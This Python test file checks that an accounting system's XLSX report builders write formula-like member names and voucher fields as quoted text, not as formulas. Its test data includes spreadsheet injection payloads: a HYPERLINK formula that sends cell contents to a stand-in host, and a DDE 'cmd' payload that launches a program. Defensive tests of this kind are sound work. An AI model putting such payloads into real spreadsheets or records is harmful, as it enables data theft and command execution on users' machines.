"""Names that look like formulas come out of the XLSX reports as the names, never as formulas."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
from sqlalchemy import update
from sqlalchemy.orm import Session

from coopcore.models import Member
from coopcore.services import ledger
from reports.accounts import build_member_accounts
from reports.cli import guard
from reports.detail_ledger import build_detail_ledger
from reports.distribution import build_distribution_report
from reports.vouchers import build_vouchers
from tests.reports import builders
from tests.reports.books import cr, dr, make_ledger_books

HOSTILE = {"M02": '=HYPERLINK("http://x?d="&B2,"点此")', "M03": "=cmd|' /C calc'!A0", "M04": "@SUM(1+1)*cmd"}


def _rename_members(session: Session, cooperative_id: int) -> None:
    for code, name in HOSTILE.items():
        session.execute(
            update(Member).where(Member.cooperative_id == cooperative_id, Member.code == code).values(name=name)
        )
    session.flush()


def _cells(path: Path) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_distribution_workbook_writes_formula_like_names_as_text(session: Session, tmp_path: Path) -> None:
    cooperative, _ = builders.example(session)
    _rename_members(session, cooperative.id)
    guard(session)

    _, workbook_path = build_distribution_report(session, cooperative, 2024, tmp_path, "zh")

    cells = _cells(workbook_path)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    assert all(name in values for name in HOSTILE.values())


def test_the_member_accounts_workbook_writes_formula_like_names_as_text(session: Session, tmp_path: Path) -> None:
    cooperative, _ = builders.example(session, "posted")
    _rename_members(session, cooperative.id)
    guard(session)

    _, workbook_path = build_member_accounts(session, cooperative, 2024, tmp_path, "zh")

    cells = _cells(workbook_path)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    assert all(name in values for name in HOSTILE.values())
    named = [cell for cell in cells if cell.value in HOSTILE.values()]
    assert named and all(cell.data_type == "s" and cell.quotePrefix for cell in named)


def test_the_voucher_and_ledger_workbooks_write_formula_like_names_as_text(session: Session, tmp_path: Path) -> None:
    books = make_ledger_books(session)
    _rename_members(session, books.cooperative.id)
    ledger.add_voucher(
        session, books.cooperative, on=dt.date(2024, 5, 6), summary="@SUM(1)", by="王会计",
        lines=[dr("113", "10.00", counterparty="=1+1"), cr("50101", "10.00")],
    )  # fmt: skip
    guard(session)

    _, vouchers = build_vouchers(session, books.cooperative, 2024, tmp_path, "zh")
    _, ledgers = build_detail_ledger(session, books.cooperative, 2024, tmp_path, "zh")

    for path, expected in (
        (vouchers, [HOSTILE["M02"], "=1+1", "@SUM(1)"]),
        (ledgers, [HOSTILE["M02"], HOSTILE["M03"]]),
    ):
        cells = _cells(path)
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        values = [cell.value for cell in cells]
        assert all(name in values for name in expected), path.name
